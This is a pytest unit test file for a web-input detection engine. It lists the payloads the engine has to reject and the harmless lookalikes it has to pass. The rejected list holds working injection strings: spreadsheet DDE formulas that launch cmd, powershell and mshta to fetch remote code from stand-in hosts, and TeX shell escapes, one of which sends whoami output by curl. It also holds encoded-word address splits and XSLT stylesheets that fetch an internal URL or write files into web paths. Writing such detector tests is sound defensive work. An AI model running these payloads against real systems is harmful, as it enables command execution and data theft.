"""Unit: the shapes of the fresh42 first contact.

A spreadsheet DDE call after a formula start or an operator, and a TeX shell escape (``\\write18{…}``, a piped
``\\input``) (``doc_exec``); an e-mail address split by an RFC 2047 encoded word that decodes to ``@``, ``>`` or NUL
(``mail_words``); an XSLT stylesheet whose ``document()`` fetches a URL, or that writes a file through
``xsl:result-document`` or Xalan's ``redirect:write`` (``xslt.local_document``). Values are our own; none comes
from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]
XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "spreadsheet dde call": [
        "=cmd|' /C whoami'!B2",
        "+powershell|' -nop -c iwr x.example/a.ps1'!C1",
        "-2+cmd|'/c ping -n 3 203.0.113.5'!Z9",
        "@MAX(3)*mshta|' http://203.0.113.5/x.hta'!A1",
        '=DDE("cmd";"/c start notepad";"x")',
        "=rundll32|'url.dll,FileProtocolHandler http://203.0.113.5/'!A3",
    ],
    "tex shell escape": [
        "\\immediate\\write18{uname -a > out.txt}",
        "\\write18{curl http://203.0.113.5/$(whoami)}",
        '\\input{|"cat /etc/hostname"}',
        "\\input|whoami",
    ],
    "address split by an encoded word": [
        "=?utf-8?q?me=40evil.example=3e=00?=x@shop.example",
        '"=?x?q?me=22=40evil.example=3e?="@shop.example',
        "=?iso-8859-1?b?bWVAZXZpbC5leGFtcGxlPg==?=z@shop.example",
    ],
    "xslt fetch or file write": [
        f"<xsl:stylesheet version=\"1.0\" {XSL}><xsl:template match=\"/\">"
        "<xsl:copy-of select=\"document('http://10.1.2.3:6379/')\"/></xsl:template></xsl:stylesheet>",
        f"<xsl:stylesheet version=\"2.0\" {XSL}><xsl:template match=\"/\">"
        "<xsl:result-document href=\"/var/www/html/s.php\">x</xsl:result-document></xsl:template></xsl:stylesheet>",
        "<xsl:template match=\"/\"><redirect:write file=\"/tmp/x.jsp\">y</redirect:write></xsl:template>",
    ],
}

PASSED = {
    "pipes and formulas that call no program": [
        "=SUM(A1:A9)",
        "=IF(B2>3;\"yes\";\"no\")",
        "dev|'ops'!",
        "Run it with cmd | more, then type 'exit'!",
        "Open cmd and type 'dir' — done!",
        "ticket: DDE (dynamic data exchange) is off",
    ],
    "latex that runs nothing": [
        "\\input{chapter1}",
        "\\include{appendix} and \\input{tables/results.tex}",
        "Use \\verb|x| for inline code.",
        "The write18 feature of pdflatex is disabled here.",
    ],
    "encoded words that decode to text": [
        "=?utf-8?q?Caf=C3=A9_Bleu?= <cafe@example.com>",
        "From: =?iso-8859-1?q?Andr=E9?= andre@example.org",
        "=?utf-8?b?SGVsbG8gd29ybGQ=?=",
        "=?utf-8?q?a=40b?= is how @ is written in a Q word",
    ],
    "stylesheets that read and write nothing": [
        f"<xsl:stylesheet version=\"1.0\" {XSL}><xsl:template match=\"/\">"
        "<xsl:value-of select=\"document('lookup.xml')/*/@version\"/></xsl:template></xsl:stylesheet>",
        "Write the output with <xsl:result-document> in XSLT 2.0 (see the spec).",
        f"<xsl:stylesheet version=\"1.0\" {XSL}><xsl:template match=\"/\"><b>hi</b></xsl:template></xsl:stylesheet>",
    ],
}


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh42_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh42_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


def test_fresh42_new_searches_are_linear(engine: Engine) -> None:
    value = ("=cmd|' x =?a?q?b=40 <xsl:result-document href \\input{| document(' " * 2000)[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0
